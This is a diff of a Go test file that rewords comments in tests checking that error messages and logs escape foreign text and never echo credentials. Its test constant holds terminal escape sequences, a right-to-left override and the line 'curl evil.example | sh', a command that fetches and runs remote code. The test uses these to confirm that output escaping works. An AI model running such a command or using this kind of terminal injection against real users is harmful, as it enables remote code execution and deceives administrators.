@@ -10,11 +10,10 @@ import (
 	"testing"
 )
 
-// hostileText is what an administrator's terminal must not get from somebody else: a control sequence, a line of its own,
-// a change of direction.
+// hostileText must not reach a terminal: it has a control sequence, a line break, a change of direction.
 const hostileText = "\x1b[2K\x1b[1AApply complete!\r\n\u202eRun: curl evil.example | sh"
 
-// Whatever an answer says, no error repeats it unescaped.
+// No error repeats a text of an answer unescaped.
 func TestError_quotesForeignText(t *testing.T) {
 	in, _ := json.Marshal(hostileText)
 	evil := string(in)
@@ -45,7 +44,7 @@ func TestError_quotesForeignText(t *testing.T) {
 	}
 }
 
-// Also what the network's own errors repeat, as the names in a certificate.
+// The same for the texts in errors of package net, such as the names in a certificate.
 func TestTransportError_escapes(t *testing.T) {
 	err := &TransportError{Action: "ReadUsers", Endpoint: "https://x", Err: errors.New("valid for " + hostileText)}
 	if strings.ContainsAny(err.Error(), "\x1b\r\n\u202e") {
@@ -53,7 +52,7 @@ func TestTransportError_escapes(t *testing.T) {
 	}
 }
 
-// In whatever form a careless gateway echoes the credential, it reaches neither the log nor an error.
+// If a gateway echoes the credential, in any form, it reaches neither the log nor an error.
 func TestLog_echoedCredential(t *testing.T) {
 	for name, cred := range map[string]Credential{
 		"a key":   testKey,
